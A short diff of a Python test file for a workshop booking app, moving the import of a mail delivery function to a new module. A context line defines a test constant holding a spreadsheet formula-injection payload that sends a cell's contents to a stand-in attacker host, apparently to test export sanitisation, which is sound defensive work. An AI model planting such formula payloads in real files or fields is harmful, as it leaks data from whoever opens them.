@@ -18,8 +18,8 @@ from app.booking.models import Notice, Registration, RegistrationStatus
 from app.catalog.models import WorkshopStatus
 from app.extensions import db
 from app.formatting import PARIS
+from app.mail.delivery import deliver_pending
 from app.mail.models import OutboxMail
-from app.mail.services import deliver_pending
 from tests.conftest import login, require
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")'
